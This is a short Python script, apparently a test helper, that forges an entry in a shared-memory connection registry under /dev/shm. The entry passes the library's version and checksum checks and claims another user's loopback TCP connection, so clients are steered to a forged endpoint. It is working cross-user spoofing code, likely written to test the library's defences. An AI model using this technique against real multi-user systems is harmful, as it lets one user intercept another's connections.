#!/usr/bin/env python3
# A third user's forgery (crossuser.sh): writes, in this uid's own registry
# (/dev/shm/sdirect-UID, made 0711 as a process with SDIRECT_CROSS_USER
# would), a whole connection entry claiming the server end of the
# connection 127.0.0.1:--client-port -> 127.0.0.1:--port, which belongs to
# another user. The entry names --pid as its process (any live one) and is
# valid in every field the library checks (layout version 3, FNV-1a check
# word), so the client's lookup in other users' registries finds it.
import argparse
import os
import socket
import struct

p = argparse.ArgumentParser()
p.add_argument("--port", type=int, required=True)
p.add_argument("--client-port", type=int, required=True)
p.add_argument("--pid", type=int, required=True)
a = p.parse_args()

d = f"/dev/shm/sdirect-{os.getuid()}"
os.makedirs(d, mode=0o700, exist_ok=True)
os.chmod(d, 0o711)
netns = os.stat("/proc/self/ns/net").st_ino
lo = socket.inet_aton("127.0.0.1").hex() + "00" * 12
# The server end: local 127.0.0.1:port, peer 127.0.0.1:client-port.
name = f"c-{netns:x}-{socket.AF_INET}-{lo}.{a.port}-{lo}.{a.client_port}"
addr = f"fi_shm://sd{a.pid}-forged".encode().ljust(80, b"\0")
body = struct.pack("<IIiIII80sIIQ", 0x45524453, 3, a.pid, 1, 1, 0, addr, 0, 0, 0)
h = 0xcbf29ce484222325
for b in body:
    h = ((h ^ b) * 0x100000001b3) & 0xFFFFFFFFFFFFFFFF
path = os.path.join(d, name)
with open(path, "wb") as f:
    f.write(body + struct.pack("<Q", h))
os.chmod(path, 0o644)
print("planted", path, flush=True)
